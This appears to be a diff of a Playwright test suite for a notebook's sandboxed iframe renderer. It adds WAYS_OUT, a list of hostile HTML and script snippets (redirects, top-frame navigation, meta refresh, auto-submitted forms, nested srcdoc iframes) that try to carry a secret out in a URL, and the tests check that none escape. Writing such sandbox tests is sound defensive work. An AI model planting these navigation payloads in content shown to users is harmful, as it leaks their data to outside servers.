@@ -80,7 +80,7 @@ fetch("{url}/fetch").catch(() => 0);
 try {{ new WebSocket("{url}/ws".replace("http", "ws")) }} catch {{}}
 navigator.sendBeacon && navigator.sendBeacon("{url}/beacon");
 try {{ document.getElementById("f").submit() }} catch {{}}
-parent.postMessage({{result: said}}, "*");
+top.postMessage({{result: said}}, "*");
 </script>"""
 
 
@@ -105,6 +105,56 @@ def test_hostile_html_reaches_neither_the_notebook_nor_the_network(
     assert asked
 
 
+WAYS_OUT = [
+    "<script>location.href='{url}'</script>",
+    "<script>location.replace('{url}')</script>",
+    "<script>window.open('{url}')</script>",
+    "<script>window.open('{url}','_self')</script>",
+    "<script>parent.location='{url}'</script>",
+    "<script>top.location.href='{url}'</script>",
+    "<script>parent.frames[0].location='{url}'</script>",
+    '<meta http-equiv="refresh" content="0;url={url}">',
+    '<a id=a href="{url}">x</a><script>a.click()</script>',
+    '<a id=a target=_top href="{url}">x</a><script>a.click()</script>',
+    '<form id=f action="{url}"></form><script>f.submit()</script>',
+    '<iframe src="{url}"></iframe>',
+    "<iframe srcdoc=\"<script>location='{url}'</script>\"></iframe>",
+    "<iframe srcdoc=\"<script>parent.location='{url}'</script>\"></iframe>",
+    "<script>const i=document.createElement('iframe');document.body.append(i);i.src='{url}'</script>",
+    "<script>document.open();document.write('<script>location=\\'{url}\\'<\\/script>')</script>",
+]
+
+
+@pytest.mark.parametrize("ranks", [1, 2])
+def test_a_deck_goes_nowhere(tab: Page, elsewhere: tuple[str, list[str]], ranks: int, tmp_path: Path) -> None:
+    """Nothing of what it has seen can leave in an address; nor that of a page that somebody has saved."""
+    url, asked = elsewhere
+    decks = []
+    for number, way in enumerate(WAYS_OUT):
+        html = way.replace("{url}", f"{url}/?secret-{number}")
+        decks.append(merged("x", {rank: Body((f"deck {rank}{html}",)) for rank in range(ranks)}))
+    tab.set_content(f"<body>notebook{''.join(framed('x', deck) for deck in decks)}</body>")
+    tab.wait_for_timeout(1000)
+    assert tab.inner_text("body").startswith("notebook")
+    for number, deck in enumerate(decks):
+        saved = tmp_path / f"{number}.html"
+        saved.write_text(deck)
+        tab.goto(f"file://{saved}")
+        tab.wait_for_timeout(150)
+        assert tab.url == f"file://{saved}"
+    assert asked == []
+    assert len(tab.context.pages) == 1
+
+
+def test_the_same_html_outside_of_a_deck_would_go(tab: Page, elsewhere: tuple[str, list[str]]) -> None:
+    url, asked = elsewhere
+    tab.set_content(
+        f"<iframe sandbox='allow-scripts' srcdoc=\"<script>location='{url}/'</script>\"></iframe>"
+    )
+    tab.wait_for_timeout(400)
+    assert asked
+
+
 def test_two_decks_on_one_page_do_not_meet(tab: Page) -> None:
     script = "const x=1;document.getElementById('same').textContent='mine'"
     part = f"<p id=same>untouched</p><script>{script}</script>"
@@ -112,7 +162,7 @@ def test_two_decks_on_one_page_do_not_meet(tab: Page) -> None:
     tab.set_content(f"<body><p id=same>notebook</p>{''.join(decks)}</body>")
 
     for number in (0, 1):
-        place = tab.frame_locator("iframe").nth(number).locator("#same")
+        place = tab.frame_locator("iframe").nth(number).frame_locator("iframe").locator("#same")
         place.wait_for()
         assert place.inner_text() == "mine"
     assert tab.inner_text("#same") == "notebook"
@@ -123,7 +173,7 @@ def test_scripts_of_several_ranks_run_side_by_side(tab: Page) -> None:
         rank: Body((f"<script>const x={rank};document.write('rank '+x)</script>",)) for rank in range(3)
     }
     tab.set_content(framed("x", merged("x", bodies)))
-    inner = tab.frame_locator("iframe").frame_locator("iframe")
+    inner = tab.frame_locator("iframe").frame_locator("iframe").frame_locator("iframe")
 
     assert [inner.nth(rank).locator("main").inner_text() for rank in range(3)] == [
         "rank 0",
@@ -148,19 +198,21 @@ def test_light_and_dark_are_the_browser_s_unless_told(tab: Page) -> None:
     ):
         tab.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
         tab.set_content(html.replace('<html lang="en"', f'<html lang="en"{told}', 1))
-        assert tab.evaluate(ground) == colour
+        tab.frame_locator("iframe").locator("text=text").wait_for()
+        tab.frames[1].wait_for_function(f"{ground} === '{colour}'")
 
 
 def test_a_shown_page_changes_its_theme_when_it_is_told(tab: Page) -> None:
     inside = merged("x", {rank: Body((f"<script>{rank}</script>text",)) for rank in (0, 1)})
     tab.set_content(f'<iframe sandbox="allow-scripts" srcdoc="{escape(inside)}"></iframe>')
-    tab.frame_locator("iframe").frame_locator("iframe").nth(1).locator("text=text").wait_for()
+    around = tab.frame_locator("iframe").frame_locator("iframe")
+    around.frame_locator("iframe").nth(1).locator("text=text").wait_for()
     tab.evaluate(
         "document.querySelector('iframe').contentWindow.postMessage({quarterdeck:'theme',theme:'dark'},'*')"
     )
     for frame in tab.frames[1:]:
         frame.wait_for_function("document.documentElement.dataset.theme === 'dark'")
-    assert len(tab.frames) == 4
+    assert len(tab.frames) == 5
 
 
 def test_a_plotly_figure_is_drawn(tab: Page) -> None:
@@ -168,4 +220,5 @@ def test_a_plotly_figure_is_drawn(tab: Page) -> None:
 
     html = page("x", Body((renderers.render(go.Figure(go.Scatter(y=[1, 3, 2]))),)))
     tab.set_content(f'<iframe sandbox="allow-scripts" srcdoc="{escape(html)}" width=600 height=500></iframe>')
-    tab.frame_locator("iframe").locator(".qd-plotly svg.main-svg .scatterlayer path.js-line").wait_for()
+    inner = tab.frame_locator("iframe").frame_locator("iframe")
+    inner.locator(".qd-plotly svg.main-svg .scatterlayer path.js-line").wait_for()
